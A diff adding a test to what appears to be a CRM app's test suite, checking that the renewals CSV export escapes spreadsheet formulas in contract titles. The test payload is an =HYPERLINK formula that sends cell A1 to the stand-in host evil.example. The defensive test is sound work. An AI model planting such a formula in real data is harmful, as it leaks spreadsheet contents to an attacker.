@@ -6,11 +6,14 @@ import os
 import re
 import subprocess
 import sys
+from datetime import timedelta
 
 from api_fixtures import *  # noqa: F401,F403
 from api_fixtures import Caller
 from conftest import bpmn_file
 from pages_support import Browser, signed_in
+
+from engine import clock
 
 TASK_LINK = re.compile(r'href="/tasks/([0-9a-f-]{36})"')
 TAB_COUNT = re.compile(r'scope=(\w+)"[^>]*>[^<]*<span class="count">(\d+)</span>')
@@ -247,6 +250,26 @@ def test_a_report_exports_as_csv_with_headers_in_the_readers_language(app, engin
     assert rows[0][:2] == ["坐席", "完成任务"] and rows[1][:2] == ["li", "1"]
     other = boss.get("/reports?report=sla&team=service")  # not her team: she gets her own
     assert "sales-east" in other.get_data(as_text=True)
+
+
+def test_a_report_csv_gives_a_title_a_spreadsheet_would_run_as_text(app, engine, identity):
+    """A contract titled =HYPERLINK(...) must not become a live link (or a command) in the supervisor's Excel."""
+    from engine.customers import customers
+    from engine.customers.records import create_record
+    from engine.customers.vocab import seed_defaults
+
+    seed_defaults(engine)
+    identity.add_user("li", "agent", ["sales-east"])
+    customer, _ = customers.create_customer(engine, {"name": "宁波某某有限公司", "owner": "li", "team": "sales-east"},
+                                            actor="li")
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"点我续约")'
+    create_record(engine, "contract", {"customer_id": customer["id"], "title": title, "owner": "li",
+                                       "team": "sales-east", "end_date": (clock.now() - timedelta(days=3)).date()},
+                  actor="li")
+    boss = signed_in(app, identity, "boss", "supervisor", ["sales-east"])
+    exported = boss.get("/reports.csv?report=renewals&team=sales-east&days=30").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
+    assert [r[1] for r in rows[1:]] == ["'" + title], rows
 
 
 def test_a_customer_the_api_hides_is_not_named_on_the_pages(app, engine, identity):
